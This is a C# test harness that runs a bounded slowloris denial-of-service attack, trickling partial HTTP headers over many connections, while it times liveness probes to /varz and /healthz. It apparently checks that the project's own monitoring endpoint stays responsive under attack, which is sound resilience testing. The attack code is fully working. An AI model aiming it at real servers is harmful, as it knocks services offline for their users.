using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Modular.Monitoring.Tests.Abuse;

/// <summary>
/// A slowloris attack on an HTTP endpoint, bounded in connections and time: each attacker sends a
/// request line and then one header byte every <see cref="TrickleEvery"/>, reconnecting when the
/// server cuts it; meanwhile a prober makes fresh-connection GETs (as a liveness probe does) and
/// times them.
/// </summary>
internal static class Slowloris
{
    public static readonly TimeSpan TrickleEvery = TimeSpan.FromMilliseconds(500);

    private static readonly byte[] Trickle = Encoding.ASCII.GetBytes("X-Trickle: aaaaaaaaaaaaaaaaaaaaaaaa\r\n");

    public sealed record Result(IReadOnlyList<(string Path, int Status, TimeSpan Latency)> Probes, int Connected, int Reconnects)
    {
        public int Answered200 => Probes.Count(p => p.Status == 200);

        public TimeSpan Median => Probes.Select(p => p.Latency).Order().ElementAt(Probes.Count / 2);

        public TimeSpan Max => Probes.Max(p => p.Latency);

        public string Describe(string who) =>
            $"{who}: {Answered200}/{Probes.Count} probes answered 200 under {Connected} trickling connections " +
            $"({Reconnects} reconnects after the server cut one); p50 {Median.TotalMilliseconds:0.0} ms, max {Max.TotalMilliseconds:0.0} ms; " +
            $"statuses {string.Join(",", Probes.Select(p => p.Status).Distinct().Order())}";
    }

    /// <summary>
    /// Opens <paramref name="attackers"/> trickling connections, waits until all are connected (or
    /// 5 s), then runs <paramref name="probes"/> GETs alternating /varz and /healthz while the attack
    /// lasts; the attack ends at <paramref name="duration"/> after it began, or after the probes.
    /// </summary>
    public static async Task<Result> RunAsync(IPEndPoint target, int attackers, int probes, TimeSpan duration)
    {
        // Warm both paths first (JIT, first-use caches): the figures are about the attack, not a cold start.
        await ProbeAsync(target, "/varz");
        await ProbeAsync(target, "/healthz");

        using var attackOver = new CancellationTokenSource(duration);
        var connected = 0;
        var reconnects = 0;
        var attack = Enumerable.Range(0, attackers)
            .Select(_ => Task.Run(() => TrickleAsync(target, () => Interlocked.Increment(ref connected), () => Interlocked.Increment(ref reconnects), attackOver.Token)))
            .ToArray();

        var ready = Stopwatch.StartNew();
        while (Volatile.Read(ref connected) < attackers && ready.Elapsed < TimeSpan.FromSeconds(5))
        {
            await Task.Delay(20);
        }

        // Let the first trickled bytes arrive, so the server holds every attacker mid-request.
        await Task.Delay(TrickleEvery * 2);
        var results = new List<(string, int, TimeSpan)>();
        var pace = (duration - ready.Elapsed - (TrickleEvery * 2)) / (probes + 1);
        for (int i = 0; i < probes; i++)
        {
            var path = i % 2 == 0 ? "/varz" : "/healthz";
            var clock = Stopwatch.StartNew();
            var status = await ProbeAsync(target, path);
            results.Add((path, status, clock.Elapsed));
            if (pace > clock.Elapsed)
            {
                await Task.Delay(pace - clock.Elapsed);
            }
        }

        await attackOver.CancelAsync();
        await Task.WhenAll(attack);
        return new Result(results, Math.Min(Volatile.Read(ref connected), attackers), Volatile.Read(ref reconnects));
    }

    /// <summary>One GET on a fresh connection with <c>Connection: close</c>: the status, or 0 when nothing came within 5 s.</summary>
    public static async Task<int> ProbeAsync(IPEndPoint target, string path)
    {
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(5));
        try
        {
            using var client = new TcpClient();
            await client.ConnectAsync(target, timeout.Token);
            var stream = client.GetStream();
            await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"), timeout.Token);
            var head = new byte[12];
            await stream.ReadExactlyAsync(head, timeout.Token);
            var line = Encoding.ASCII.GetString(head);
            using var rest = new MemoryStream();
            await stream.CopyToAsync(rest, timeout.Token);
            return line.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) ? int.Parse(line.AsSpan(9, 3), System.Globalization.CultureInfo.InvariantCulture) : -1;
        }
        catch (Exception ex) when (ex is OperationCanceledException or IOException or SocketException)
        {
            return 0;
        }
    }

    private static async Task TrickleAsync(IPEndPoint target, Action onConnected, Action onReconnect, CancellationToken attackOver)
    {
        var first = true;
        while (!attackOver.IsCancellationRequested)
        {
            try
            {
                using var client = new TcpClient();
                await client.ConnectAsync(target, attackOver);
                if (first)
                {
                    onConnected();
                    first = false;
                }
                else
                {
                    onReconnect();
                }

                var stream = client.GetStream();
                await stream.WriteAsync(Encoding.ASCII.GetBytes("GET /varz HTTP/1.1\r\nHost: 127.0.0.1\r\n"), attackOver);
                for (int i = 0; !attackOver.IsCancellationRequested; i++)
                {
                    await Task.Delay(TrickleEvery, attackOver);
                    await stream.WriteAsync(Trickle.AsMemory(i % Trickle.Length, 1), attackOver);
                }
            }
            catch (OperationCanceledException)
            {
                return;
            }
            catch (Exception ex) when (ex is IOException or SocketException)
            {
                // The server cut this connection: a real attacker comes straight back.
            }
        }
    }
}
